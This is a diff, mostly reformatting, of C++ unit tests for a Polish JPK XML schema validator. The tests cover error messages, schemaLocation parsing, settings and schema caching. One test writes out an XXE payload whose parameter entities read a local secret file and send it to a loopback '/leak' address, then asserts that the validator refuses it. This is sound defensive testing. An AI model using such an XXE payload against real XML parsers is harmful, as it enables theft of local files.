@@ -83,8 +83,8 @@ TEST_F(Validator, FirstSchemaErrorWithItsLine)
         const Msg &m = o.messages.first();
         EXPECT_TRUE(m.caption.startsWith(QStringLiteral("Błąd budowy - ErrorCode: "))) << m.caption.toStdString();
         EXPECT_NE(m.caption, QStringLiteral("Błąd budowy - ErrorCode: 0"));
-        const QString prefix = QStringLiteral("Wg ") + home.file(QStringLiteral("Schemat_JPK_FA(4)_v1-0.xsd"))
-                               + QStringLiteral("\r\n\r\n");
+        const QString prefix = QStringLiteral("Wg ") + home.file(QStringLiteral("Schemat_JPK_FA(4)_v1-0.xsd")) +
+                               QStringLiteral("\r\n\r\n");
         EXPECT_TRUE(m.text.startsWith(prefix)) << m.text.toStdString();
         EXPECT_TRUE(m.text.contains(QStringLiteral("\rLine: %1, LinePos: ").arg(c.line))) << m.text.toStdString();
         EXPECT_TRUE(m.text.contains(QString::fromLatin1(c.element))) << m.text.toStdString();
@@ -123,7 +123,8 @@ TEST_F(Validator, NotWellFormedOrMissingFile)
     ASSERT_EQ(o.messages.size(), 1);
     const QString text = o.messages.first().text;
     EXPECT_TRUE(text.startsWith(QStringLiteral("Błąd wczytania pliku XML:\r"))) << text.toStdString();
-    EXPECT_TRUE(text.endsWith(QStringLiteral("\r\nLine: 4\r\n    <KodFormularza>JPK_FA</KodFormularz>"))) << text.toStdString();
+    EXPECT_TRUE(text.endsWith(QStringLiteral("\r\nLine: 4\r\n    <KodFormularza>JPK_FA</KodFormularz>")))
+        << text.toStdString();
 
     o = validate(home, home.file(QStringLiteral("brak.xml")));
     ASSERT_EQ(o.messages.size(), 1);
@@ -140,12 +141,14 @@ TEST_F(Validator, MissingSchemaWithoutNetworkGivesTheReport)
     const Msg &m = o.messages.first();
     EXPECT_EQ(m.caption, QStringLiteral("Błąd weryfikatora"));
     const QString address = kJpkNamespace + QStringLiteral("schemat.xsd");
-    EXPECT_TRUE(m.text.startsWith(QStringLiteral("<Blad typ=\"Problem z weryfikatorem XSD\">\r<NameSpace>") + kJpkNamespace
-                                  + QStringLiteral("</NameSpace>\r<Schema>") + address + QStringLiteral("</Schema>\r<Komunikat>")))
+    EXPECT_TRUE(m.text.startsWith(QStringLiteral("<Blad typ=\"Problem z weryfikatorem XSD\">\r<NameSpace>") +
+                                  kJpkNamespace + QStringLiteral("</NameSpace>\r<Schema>") + address +
+                                  QStringLiteral("</Schema>\r<Komunikat>")))
         << m.text.toStdString();
-    EXPECT_TRUE(m.text.endsWith(QStringLiteral("</Komunikat>\r</Blad>\r\rSprawdź czy :\r"
-                                               "- masz niezbędne do weryfikacji aktywne połączenie z internetem.\r"
-                                               "- nie ma problemów ze stroną zawierającą adres wzorców weryfikacji XSD")));
+    EXPECT_TRUE(
+        m.text.endsWith(QStringLiteral("</Komunikat>\r</Blad>\r\rSprawdź czy :\r"
+                                       "- masz niezbędne do weryfikacji aktywne połączenie z internetem.\r"
+                                       "- nie ma problemów ze stroną zawierającą adres wzorców weryfikacji XSD")));
 }
 
 TEST_F(Validator, OlderStructureIsCheckedUnderItsOwnNamespace)
@@ -172,9 +175,9 @@ TEST_F(Validator, SchemaLocationHints)
         const char *schema;
     };
     const Case cases[] = {
-        {"xsi_other_namespace.xml", "urn:jpk", "b.xsd"},  // the cut stops at the underscore
-        {"capital_xsd_hint.xml", "urn:dekl", "http://127.0.0.1:9/dir/Schema.XSD"},  // nothing appended
-        {"doctype_hint.xml", "urn:wniosek", "wniosek.dtdschemat.xsd"},  // the DOCTYPE comes first
+        {"xsi_other_namespace.xml", "urn:jpk", "b.xsd"},                           // the cut stops at the underscore
+        {"capital_xsd_hint.xml", "urn:dekl", "http://127.0.0.1:9/dir/Schema.XSD"}, // nothing appended
+        {"doctype_hint.xml", "urn:wniosek", "wniosek.dtdschemat.xsd"},             // the DOCTYPE comes first
         {"tns_hint.xml", "", "http://example.invalid/wzor/schemat.xsd"},
         {"jpk_fa3_header.xml", "http://jpk.mf.gov.pl/wzor/2019/09/27/09271/",
          "http://jpk.mf.gov.pl/wzor/2019/09/27/09271/schemat.xsd"},
@@ -206,20 +209,26 @@ TEST(SchemaLocation, Cut)
     for (const Case &c : cases)
         EXPECT_EQ(TForm_WalidatorXML::cutSchemaLocation(QString::fromLatin1(c.value)), QString::fromLatin1(c.expected))
             << c.value;
-    EXPECT_EQ(TForm_WalidatorXML::attributeHint(QStringLiteral("urn:a  b.xsd urn:c d.xsd")), QStringLiteral("b.xsd urn:c d.xsd"));
+    EXPECT_EQ(TForm_WalidatorXML::attributeHint(QStringLiteral("urn:a  b.xsd urn:c d.xsd")),
+              QStringLiteral("b.xsd urn:c d.xsd"));
     EXPECT_EQ(TForm_WalidatorXML::attributeHint(QStringLiteral("only.xsd ")), QStringLiteral("only.xsd "));
 }
 
 TEST_F(Validator, SettingsFileKeepsWhatItHeld)
 {
-    home.write(QStringLiteral("ustawienia.xml"),
-               "<?xml version=\"1.0\"?>\n<Configuration><Inne>1</Inne><Form1><FormVersion>7</FormVersion></Form1></Configuration>\n");
-    { TForm_WalidatorXML v(nullptr, home.path()); }
+    home.write(QStringLiteral("ustawienia.xml"), "<?xml "
+                                                 "version=\"1.0\"?>\n<Configuration><Inne>1</"
+                                                 "Inne><Form1><FormVersion>7</FormVersion></Form1></Configuration>\n");
+    {
+        TForm_WalidatorXML v(nullptr, home.path());
+    }
     const QByteArray after = home.read(QStringLiteral("ustawienia.xml"));
     EXPECT_TRUE(after.contains("<Inne>1</Inne>"));
     EXPECT_TRUE(after.contains("<FormVersion>0</FormVersion>"));
     QFile::remove(home.file(QStringLiteral("ustawienia.xml")));
-    { TForm_WalidatorXML v(nullptr, home.path()); }
+    {
+        TForm_WalidatorXML v(nullptr, home.path());
+    }
     EXPECT_TRUE(home.read(QStringLiteral("ustawienia.xml")).contains("<Configuration>"));
 }
 
@@ -241,8 +250,9 @@ TEST_F(Validator, SchemaFetchedOverHttpAndImportsFromTheCache)
     QFile sample(kSamples + QStringLiteral("/minimal_valid.xml"));
     ASSERT_TRUE(sample.open(QIODevice::ReadOnly));
     QByteArray text = sample.readAll();
-    const QByteArray hinted = QByteArray("<JPK xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"")
-                              + kJpkNamespace.toUtf8() + ' ' + address.toUtf8() + QByteArray("\" xmlns=");
+    const QByteArray hinted =
+        QByteArray("<JPK xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"") +
+        kJpkNamespace.toUtf8() + ' ' + address.toUtf8() + QByteArray("\" xmlns=");
     text.replace("<JPK xmlns=", hinted);
     home.write(QStringLiteral("JPK_FA4.xml"), text);
 
@@ -260,7 +270,8 @@ TEST_F(Validator, SchemaFetchedOverHttpAndImportsFromTheCache)
         EXPECT_FALSE(failed.valid);
         ASSERT_EQ(failed.messages.size(), 1);
         EXPECT_EQ(failed.messages.first().caption, QStringLiteral("Błąd weryfikatora"));
-        EXPECT_TRUE(failed.messages.first().text.contains(QStringLiteral("<Schema>") + bad + QStringLiteral("</Schema>")));
+        EXPECT_TRUE(
+            failed.messages.first().text.contains(QStringLiteral("<Schema>") + bad + QStringLiteral("</Schema>")));
         EXPECT_FALSE(QFile::exists(SchemaLocator::instance().cacheFileFor(bad)));
     }
 }
@@ -277,21 +288,22 @@ TEST_F(Validator, AHostileSchemaReadsNothingSendsNothingAndValidatesNothing)
     LoopbackServer server(served.path());
     ASSERT_GT(server.port(), 0) << "python3 http.server did not start";
     const QString port = QString::number(server.port());
-    const QByteArray anything = "<xs:element name=\"JPK\"><xs:complexType><xs:sequence>"
-                                "<xs:any processContents=\"skip\" minOccurs=\"0\" maxOccurs=\"unbounded\"/>"
-                                "</xs:sequence><xs:anyAttribute processContents=\"skip\"/></xs:complexType></xs:element>";
-    const QByteArray open = "<xs:schema xmlns:xs=\"http://www.w3.org/2001/XMLSchema\" targetNamespace=\""
-                            + kJpkNamespace.toUtf8() + "\" elementFormDefault=\"qualified\">";
+    const QByteArray anything =
+        "<xs:element name=\"JPK\"><xs:complexType><xs:sequence>"
+        "<xs:any processContents=\"skip\" minOccurs=\"0\" maxOccurs=\"unbounded\"/>"
+        "</xs:sequence><xs:anyAttribute processContents=\"skip\"/></xs:complexType></xs:element>";
+    const QByteArray open = "<xs:schema xmlns:xs=\"http://www.w3.org/2001/XMLSchema\" targetNamespace=\"" +
+                            kJpkNamespace.toUtf8() + "\" elementFormDefault=\"qualified\">";
     // a DTD whose parameter entities read a local file and send it out in a second request
     served.write(QStringLiteral("dtd.xsd"),
-                 QByteArray("<?xml version=\"1.0\"?>\n<!DOCTYPE xs:schema [\n<!ENTITY % file SYSTEM \"file://"
-                     + home.file(QStringLiteral("secret.txt")).toUtf8()
-                     + "\">\n<!ENTITY % eval \"<!ENTITY &#x25; leak SYSTEM 'http://127.0.0.1:" + port.toUtf8()
-                     + "/leak?%file;'>\">\n%eval;\n%leak;\n]>\n" + open + anything + "</xs:schema>\n"));
+                 QByteArray("<?xml version=\"1.0\"?>\n<!DOCTYPE xs:schema [\n<!ENTITY % file SYSTEM \"file://" +
+                            home.file(QStringLiteral("secret.txt")).toUtf8() +
+                            "\">\n<!ENTITY % eval \"<!ENTITY &#x25; leak SYSTEM 'http://127.0.0.1:" + port.toUtf8() +
+                            "/leak?%file;'>\">\n%eval;\n%leak;\n]>\n" + open + anything + "</xs:schema>\n"));
     // a schema without a DTD that includes a file that is no schema
-    served.write(QStringLiteral("include.xsd"), QByteArray("<?xml version=\"1.0\"?>\n" + open
-                                                    + "<xs:include schemaLocation=\"http://127.0.0.1:" + port.toUtf8()
-                                                    + "/notes.txt\"/>" + anything + "</xs:schema>\n"));
+    served.write(QStringLiteral("include.xsd"),
+                 QByteArray("<?xml version=\"1.0\"?>\n" + open + "<xs:include schemaLocation=\"http://127.0.0.1:" +
+                            port.toUtf8() + "/notes.txt\"/>" + anything + "</xs:schema>\n"));
     served.write(QStringLiteral("notes.txt"), "<xs:schema xmlns:xs=\"http://www.w3.org/2001/XMLSchema\"/>");
     // not a schema at all
     served.write(QStringLiteral("page.xsd"), "<html><body>404</body></html>");
@@ -302,8 +314,9 @@ TEST_F(Validator, AHostileSchemaReadsNothingSendsNothingAndValidatesNothing)
     for (const char *name : {"dtd.xsd", "include.xsd", "page.xsd"}) {
         const QString address = server.url(QString::fromLatin1(name));
         QByteArray hinted = text;
-        hinted.replace("<JPK xmlns=", QByteArray("<JPK xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\""
-                                                     + kJpkNamespace.toUtf8() + ' ' + address.toUtf8() + "\" xmlns="));
+        hinted.replace("<JPK xmlns=",
+                       QByteArray("<JPK xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"" +
+                                  kJpkNamespace.toUtf8() + ' ' + address.toUtf8() + "\" xmlns="));
         home.write(QStringLiteral("JPK_FA4.xml"), hinted);
         const Outcome o = validate(home, home.file(QStringLiteral("JPK_FA4.xml")));
         EXPECT_FALSE(o.valid) << name;
@@ -311,21 +324,25 @@ TEST_F(Validator, AHostileSchemaReadsNothingSendsNothingAndValidatesNothing)
         EXPECT_EQ(o.messages.first().caption, QStringLiteral("Błąd weryfikatora")) << name;
         EXPECT_EQ(server.requests().last(), QStringLiteral("/") + QString::fromLatin1(name))
             << name << ": nothing but the schema was asked for";
-        if (QByteArray(name) != "include.xsd")  // that one is a schema: its include is what is refused
-            EXPECT_FALSE(QFile::exists(SchemaLocator::instance().cacheFileFor(address))) << name << ": only schemas are cached";
+        if (QByteArray(name) != "include.xsd") // that one is a schema: its include is what is refused
+            EXPECT_FALSE(QFile::exists(SchemaLocator::instance().cacheFileFor(address)))
+                << name << ": only schemas are cached";
     }
     for (const QString &path : server.requests())
-        EXPECT_FALSE(path.startsWith(QStringLiteral("/leak")) || path.startsWith(QStringLiteral("/notes"))) << path.toStdString();
+        EXPECT_FALSE(path.startsWith(QStringLiteral("/leak")) || path.startsWith(QStringLiteral("/notes")))
+            << path.toStdString();
 }
 
 TEST_F(Validator, ADocumentDeclaringEntitiesIsRefusedHonestly)
 {
     installSchemas(home);
-    home.write(QStringLiteral("ent.xml"), "<?xml version=\"1.0\"?>\n<!DOCTYPE JPK [<!ENTITY y \"yyy\">]>\n<JPK>&y;</JPK>\n");
+    home.write(QStringLiteral("ent.xml"),
+               "<?xml version=\"1.0\"?>\n<!DOCTYPE JPK [<!ENTITY y \"yyy\">]>\n<JPK>&y;</JPK>\n");
     const Outcome o = validate(home, home.file(QStringLiteral("ent.xml")));
     EXPECT_FALSE(o.valid);
     ASSERT_FALSE(o.messages.isEmpty());
-    EXPECT_TRUE(o.messages.first().text.contains(QStringLiteral("Plik zawiera deklaracje DTD, których program nie przyjmuje")))
+    EXPECT_TRUE(
+        o.messages.first().text.contains(QStringLiteral("Plik zawiera deklaracje DTD, których program nie przyjmuje")))
         << o.messages.first().text.toStdString();
 }
 
